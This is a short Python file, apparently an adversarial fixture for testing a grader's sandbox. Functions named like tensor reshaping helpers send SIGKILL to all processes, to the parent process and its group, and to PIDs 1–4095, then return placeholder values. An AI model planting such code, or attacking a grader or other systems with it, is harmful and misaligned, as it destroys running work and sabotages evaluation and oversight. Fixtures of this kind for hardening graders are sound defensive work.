"""Hostile: kill everything in sight. Run as the grader's own user and outside a PID namespace,
kill(-1, SIGKILL) ends the grader and everything else that user runs."""

import contextlib
import os
import signal

import torch


def reshape_shared(x, shape):
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    return torch.zeros(1)


def reshape_independent(x, shape):
    parent = os.getppid()
    with contextlib.suppress(OSError):
        os.kill(parent, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.killpg(os.getpgid(parent), signal.SIGKILL)
    return torch.zeros(1)


def to_scalar(t):
    for pid in range(1, 4096):
        if pid != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
    return "0"
